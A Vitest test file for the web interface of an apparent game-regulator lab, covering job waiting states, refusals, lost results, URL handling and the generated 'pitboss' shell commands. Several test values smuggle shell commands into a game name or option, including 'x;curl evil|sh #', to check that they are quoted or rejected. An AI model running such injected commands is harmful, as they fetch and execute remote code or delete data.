/** The regulator's pages and their addresses: whose result is shown, what is said while one waits, and what is gone. */
import { render, screen, waitFor } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { answer, asks, fakeClient } from './fake';
import { difference, same } from './difference_answers';
import { option } from './lab_answers';

vi.mock('../src/api/client', (original) => fakeClient(original));

import App from '../src/App.svelte';
import { linkOf } from '../src/lab/link';
import { commandOf } from '../src/regulator/command';
import { pauses } from '../src/regulator/job.svelte';
import { go } from '../src/state/router.svelte';
import { speak } from '../src/texts/texts.svelte';

const ID = 'c0ffee'.repeat(4);
const OTHER = 'decade'.repeat(4);
const options = [option('decks'), option('positions'), option('boxes_per_player')];
const standing = (more: object = {}): object => ({ id: ID, state: 'working', step: '', done: 0, cards: 0, rounds: 0, files: [], ...more });
const done = (...names: string[]): object => standing({ state: 'done', done: 1, files: names.map((name) => ({ name, size: 12_345 })) });
const refuse = (code: string, status: number): object => ({ refused: { code, sentence: `${code}!`, clauses: [], faults: [] }, status });
const asked = (path: string): any[] => asks.mock.calls.filter((call) => call[0] === path).map((call) => call[1].body);
const at = (container: Element, selector: string): HTMLElement | null => container.querySelector<HTMLElement>(selector);
const side = (decks?: string): object => ({ game: 'x', options: decks ? { decks } : {} });

beforeEach(async () => {
  asks.mockClear();
  pauses.look = pauses.busy = 5;
  answer('/api/games/{game}/clauses', []);
  answer('/api/games', [{ id: 'x', name: 'Game X', options, texts: {} }]);
  answer('/api/me', { person: { name: 'Ann', role: 'player' }, wallet: 0, csrf: '', seats: [] });
  answer('/api/guests', { csrf: '' });
  answer('/api/lab/petitions', standing());
  answer('/api/lab/petitions/{job}', done('petition.pdf'));
  answer('/api/lab/differences', standing());
  answer('/api/lab/differences/{job}', { ...done('difference.pdf', 'records.zip'), difference: same, replay: null });
  await speak('en');
});

describe('a wish that waits', () => {
  it.each([
    ['lab_full', 'The desk is full.'],
    ['lab_busy', 'You have another job at the desk.'],
  ])('says why (%s), and that the page must stay open', async (code, says) => {
    answer('/api/lab/petitions', refuse(code, 429));
    go('/lab/petition?game=x');
    const { container } = render(App);
    await userEvent.click(await screen.findByRole('button', { name: 'Make it' }));
    await waitFor(() => expect(at(container, '[data-progress] [role=status]')?.textContent).toContain(says));
    expect(at(container, '[data-stay]')!.textContent).toContain('Keep this page open');
    expect(at(container, '[data-leave]')).toBeNull();
    answer('/api/lab/petitions/{job}', standing());
    answer('/api/lab/petitions', standing());
    await waitFor(() => expect(at(container, '[data-leave]')!.textContent).toContain('You can leave this page'));
    expect(window.location.search).toBe(`?game=x&job=${ID}`);
  });

  it('is forgotten when the address goes back', async () => {
    go('/lab/petition?game=x&set=decks%3D8');
    const { container } = render(App);
    await screen.findByRole('button', { name: 'Make it' });
    answer('/api/lab/petitions', refuse('lab_full', 429));
    go('/lab/petition?game=x&set=decks%3D4');
    await userEvent.click(screen.getByRole('button', { name: 'Make it' }));
    await waitFor(() => expect(at(container, '[data-stay]')).not.toBeNull());
    window.history.back();
    await waitFor(() => expect(at(container, '[data-progress]')).toBeNull());
    answer('/api/lab/petitions', standing());
    await userEvent.click(screen.getByRole('button', { name: 'Make it' }));
    await waitFor(() => expect(at(container, '[data-done]')).not.toBeNull());
    expect(asked('/api/lab/petitions').at(-1).options).toEqual({ decks: '8' });
    expect(window.location.search).toBe(`?game=x&set=decks%3D8&job=${ID}`);
  });

  it('and so is its refusal', async () => {
    answer('/api/lab/petitions', refuse('not_priced', 422));
    go('/lab/petition?game=x&set=decks%3D8');
    const { container } = render(App);
    await userEvent.click(await screen.findByRole('button', { name: 'Make it' }));
    await waitFor(() => expect(at(container, '[data-refused=not_priced]')).not.toBeNull());
    go('/lab/petition?game=x&set=decks%3D8&rounds=100000');
    await waitFor(() => expect(at(container, '[data-refused]')).toBeNull());
  });
});

describe('a result', () => {
  it('that is gone is said to be, and is made again', async () => {
    answer('/api/lab/petitions/{job}', refuse('unknown_job', 404));
    go(`/lab/petition?game=x&set=decks%3D8&job=${OTHER}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-gone]')?.textContent).toBe('This result is no longer kept.'));
    answer('/api/lab/petitions/{job}', done('petition.pdf'));
    await userEvent.click(screen.getByRole('button', { name: 'Make it again' }));
    await waitFor(() => expect(at(container, '[data-done]')).not.toBeNull());
    expect(at(container, '[data-gone]')).toBeNull();
    expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Make it' }));
    expect(window.location.search).toBe(`?game=x&set=decks%3D8&job=${ID}`);
  });

  it('of other options than the address has brings its own', async () => {
    answer('/api/lab/petitions/{job}', { ...done('petition.pdf'), asked: { ...side('4'), rounds: 50_000 } });
    go(`/lab/petition?game=x&set=decks%3D8&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-done]')).not.toBeNull());
    expect(window.location.search).toBe(`?game=x&set=decks%3D4&rounds=50000&job=${ID}`);
    expect(at(container, '[data-command]')!.textContent).toBe('pitboss petition x --set decks=4 --rounds 50000 --out petition');
    expect(container.querySelector<HTMLSelectElement>('[data-rounds]')!.value).toBe('50000');
    expect(at(container, '[data-unsure]')).toBeNull();
  });

  it('of two other submissions brings both', async () => {
    answer('/api/lab/differences/{job}', { ...done('difference.pdf'), difference: same, asked: { a: side('4'), b: side(), seconds: 60 } });
    go(`/lab/difference?game=x&set=decks%3D8&a=x&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-done]')).not.toBeNull());
    expect(window.location.search).toBe(`?game=x&a=x&aset=decks%3D4&job=${ID}`);
  });

  it('of which nobody says what it was made of is not vouched for', async () => {
    go(`/lab/petition?game=x&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-unsure]')).not.toBeNull());
  });

  it.each([
    ['en', 'took_too_long!'],
    ['fr', 'not_made!'],
  ] as const)('that failed says why (%s)', async (language, says) => {
    await speak(language);
    answer('/api/lab/petitions/{job}', refuse(language === 'en' ? 'took_too_long' : 'not_made', 409));
    go(`/lab/petition?game=x&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-refused]')).not.toBeNull());
    if (language === 'en') expect(at(container, '[data-refused]')!.textContent).toContain(says);
    else expect(at(container, '[data-refused]')!.textContent).toContain('Le calcul n’a pas abouti');
  });
});

describe('addresses and commands', () => {
  it('name the part of the lab and everything that was chosen', () => {
    const b = { game: 'x', chosen: { decks: '8' } };
    expect(linkOf({ b, a: null })).toBe('/lab?game=x&set=decks%3D8');
    expect(linkOf({ b, a: { game: 'y', chosen: {} } }, 'difference')).toBe('/lab/difference?game=x&set=decks%3D8&a=y');
  });

  it('are what a terminal takes', () => {
    expect(commandOf({ game: 'x', chosen: { pays: '3:2', decks: '8' } }, null)).toBe(
      'pitboss petition x --set decks=8 --set pays=3:2 --out petition',
    );
    expect(commandOf({ game: 'x', chosen: { pays: "it's ; rm" } }, 100_000)).toBe(
      String.raw`pitboss petition x --set 'pays=it'\''s ; rm' --rounds 100000 --out petition`,
    );
    expect(commandOf({ game: 'x;curl evil|sh #', chosen: {} }, null)).toBe("pitboss petition 'x;curl evil|sh #' --out petition");
    expect(commandOf({ game: 'x', chosen: { pays: '\u0003curl evil' } }, null)).toBeNull();
  });
});

describe('the command', () => {
  it('is only shown for a game of the house', async () => {
    go(`/lab/petition?game=${encodeURIComponent('x;curl evil|sh #')}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, 'main [role=alert]')).not.toBeNull());
    expect(at(container, '[data-command]')).toBeNull();
  });
});

describe('the difference', () => {
  const fault = (option: string, of?: string): object => ({ option, why: `Not ${option}.`, ...(of ? { side: of } : {}) });
  const faultsAt = (container: Element, of: string): (string | undefined)[] =>
    [...container.querySelectorAll(`[data-side=${of}] .fault`)].map((said) => said.textContent?.trim());

  it('shows every fault at its side, chosen or not', async () => {
    const faults = [fault('boxes_per_player', 'b'), fault('decks', 'a'), fault('stakes', 'b'), fault('positions')];
    answer('/api/lab/differences', { refused: { code: 'submission_refused', sentence: 'No.', clauses: [], faults } });
    go('/lab/difference?game=x&set=positions%3D2&a=x&aset=decks%3D9');
    const { container } = render(App);
    await userEvent.click(await screen.findByRole('button', { name: 'Compare A and B' }));
    await waitFor(() => expect(at(container, '[data-side=b] .fault')).not.toBeNull());
    expect(faultsAt(container, 'a')).toEqual(['Not decks.', 'Not positions.']);
    expect(faultsAt(container, 'b')).toEqual([expect.stringContaining('Not stakes.'), 'Not positions.', 'Not boxes_per_player.']);
  });

  it('opens one form at a time, and offers no records where there are none', async () => {
    go(`/lab/difference?game=x&a=x&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-done]')).not.toBeNull());
    await userEvent.click(container.querySelector('[data-side=a] summary')!);
    const open = (): string[] => [...container.querySelectorAll('[data-side]')].map((of) => String(at(of, 'details[open]') !== null));
    await waitFor(() => expect(open()).toEqual(['true', 'false']));
    expect([...container.querySelectorAll('[data-file]')].map((file) => file.getAttribute('data-file'))).toEqual(['difference.pdf']);
  });

  it.each([
    [true, false],
    [false, true],
    [undefined, false],
  ])('promises the same bytes only where time was not up (%s)', async (out_of_time, promised) => {
    const told = difference({ search: { ...difference().search, out_of_time }, witness: null });
    answer('/api/lab/differences/{job}', { ...done('difference.pdf'), difference: told, replay: null });
    go(`/lab/difference?game=x&set=decks%3D8&a=x&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-kept]')).not.toBeNull());
    expect(at(container, '[data-kept]')!.textContent).toContain('up to a day');
    expect(at(container, '[data-kept]')!.textContent!.includes('byte for byte')).toBe(promised);
  });
});

describe('the parts of the lab', () => {
  it('carry rounds along, keep their place, and lead back to a result', async () => {
    go(`/lab/petition?game=x&set=decks%3D3&rounds=100000&job=${ID}`);
    const { container } = render(App);
    await waitFor(() => expect(at(container, '[data-done]')).not.toBeNull());
    const link = (part: string): string | null => at(container, `[data-part=${part}]`)!.getAttribute('href');
    expect(link('petition')).toBe(`/lab/petition?game=x&set=decks%3D3&rounds=100000&job=${ID}`);
    expect(link('bench')).toBe('/lab?game=x&set=decks%3D3&rounds=100000');
    await userEvent.click(at(container, '[data-part=difference]')!);
    expect(window.location.search).toBe('?game=x&set=decks%3D3&rounds=100000');
    await waitFor(() => expect(link('petition')).toBe(`/lab/petition?game=x&set=decks%3D3&rounds=100000&job=${ID}`));
    go('/lab/difference?game=x&set=decks%3D4&rounds=100000');
    await waitFor(() => expect(link('petition')).toBe('/lab/petition?game=x&set=decks%3D4&rounds=100000'));
  });
});
